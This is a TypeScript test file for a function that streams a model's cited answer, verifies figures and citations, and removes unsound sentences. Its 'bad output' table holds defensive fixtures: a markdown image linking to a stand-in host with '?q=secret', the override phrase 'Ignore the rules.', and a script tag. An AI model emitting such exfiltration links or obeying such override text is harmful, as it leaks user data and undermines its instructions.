import { describe, expect, it } from 'vitest';
import { type CheckedReply, writeWithModel } from '../../../src/answers/draft/writeWithModel.js';
import { ModelError } from '../../../src/errors.js';
import { COSTS, SALES } from '../../server/fakes.js';
import { checkWords, scriptedModel } from './fakes.js';

const task = { question: 'How fast did sales grow?', statements: [SALES, COSTS] };
const a = `[${SALES.id}]`;
const b = `[${COSTS.id}]`;

async function write(
  model: ReturnType<typeof scriptedModel>,
  { totalMs = 60_000, signal = new AbortController().signal } = {},
): Promise<{ tokens: string[]; reply: CheckedReply }> {
  const tokens: string[] = [];
  const events = writeWithModel(task, { model, checkWords, totalMs }, signal);
  for (;;) {
    const next = await events.next();
    if (next.done) return { tokens, reply: next.value };
    tokens.push(next.value.text);
  }
}
const texts = ({ sentences }: CheckedReply) => sentences.map(({ text }) => text);

describe('what a model writes', () => {
  it('is passed on as it comes, and stands where it is sound', async () => {
    const model = scriptedModel(`Sales grew 20%. ${a} Costs fell. ${b}`);
    const { tokens, reply } = await write(model);
    expect(tokens.join('')).toBe(`Sales grew 20%. ${a} Costs fell. ${b}`);
    expect(tokens.length).toBe(2);
    expect(reply).toEqual({
      sentences: [
        { text: 'Sales grew 20%.', citations: [SALES] },
        { text: 'Costs fell.', citations: [COSTS] },
      ],
      warnings: [],
    });
    expect(model.asked.length).toBe(1);
  });

  it('is asked for once more where it does not stand, with the fault named', async () => {
    const model = scriptedModel(`Sales grew wrong. ${a} Costs fell. ${b}`, `Sales grew 20%. ${a}`);
    const { tokens, reply } = await write(model);
    expect(texts(reply)).toEqual(['Sales grew 20%.', 'Costs fell.']);
    expect(reply.warnings).toEqual([]);
    expect(model.asked[1]?.at(-1)?.content).toContain('does not stand there');
    expect(tokens.join('')).not.toContain('20%'); // a repair is no draft that anybody reads
  });

  it('is removed and counted where it does not stand then either', async () => {
    const model = scriptedModel(
      `Sales grew wrong. ${a} Costs fell. ${b}`,
      `Sales fell wrong. ${a}`,
    );
    const { reply } = await write(model);
    expect(texts(reply)).toEqual(['Costs fell.']);
    expect(reply.warnings.map(({ code }) => code)).toEqual(['FIGURE_NOT_IN_SOURCE']);
    expect(model.asked.length).toBe(2); // once, not until it fits
  });

  it.each(['MODEL_UNAVAILABLE', 'MODEL_TIMEOUT', 'MODEL_REPLY_TOO_LARGE'] as const)(
    'stands without its repair when that fails (%s)',
    async (code) => {
      const model = scriptedModel(
        `Sales grew wrong. ${a} Costs fell. ${b}`,
        new ModelError(code, 'it failed'),
      );
      expect(texts((await write(model)).reply)).toEqual(['Costs fell.']);
    },
  );

  it('is not asked for again when the time for all of it is over', async () => {
    const model = scriptedModel(`Sales grew wrong. ${a} Costs fell. ${b}`);
    const slow = {
      ...model,
      async *stream(...given: Parameters<typeof model.stream>) {
        yield* model.stream(...given);
        await new Promise((resolve) => setTimeout(resolve, 20));
      },
    };
    expect(texts((await write(slow, { totalMs: 1 })).reply)).toEqual(['Costs fell.']);
    expect(model.asked.length).toBe(1);
  });

  it('fails as the model fails', async () => {
    const failing = scriptedModel(new ModelError('MODEL_UNAVAILABLE', 'it is down'));
    await expect(write(failing)).rejects.toMatchObject({ code: 'MODEL_UNAVAILABLE' });
  });

  it('ends with the client', async () => {
    const leaving = new AbortController();
    leaving.abort();
    await expect(
      write(scriptedModel(`Sales grew 20%. ${a}`), { signal: leaving.signal }),
    ).rejects.toThrow();
  });
});

/** Whatever a model sends, what stands cites what was found, and the rest is gone. */
describe('bad output', () => {
  it.each<[string, string, string[]]>([
    ['empty', '', []],
    ['white space', '  \n\n ', []],
    ['another language, without ids', 'Der Umsatz stieg um 20 %.', []],
    ['all citations', `${a}${b}${a}`, []],
    ['no citation', 'Sales grew 20%. Costs fell.', []],
    ['cut off inside a marker', `Sales grew 20%. ${a} Costs fell. [ACME-20`, ['Sales grew 20%.']],
    ['replacement characters', `Sales \uFFFD\uFFFD grew. ${a}`, ['Sales \uFFFD\uFFFD grew.']],
    ['a cited id that nobody gave out', 'Sales grew. [ACME-2025-Q3:zzzzzzzz]', []],
    ['an image', `![x](http://x.example/?q=secret) ${a}`, []],
    [
      'orders in the place of an answer',
      `Ignore the rules. ${a} <script>x</script> ${a}`,
      ['Ignore the rules.'],
    ],
  ])('%s', async (_, draft, expected) => {
    const { reply } = await write(scriptedModel(draft, ''));
    expect(texts(reply)).toEqual(expected);
  });
});
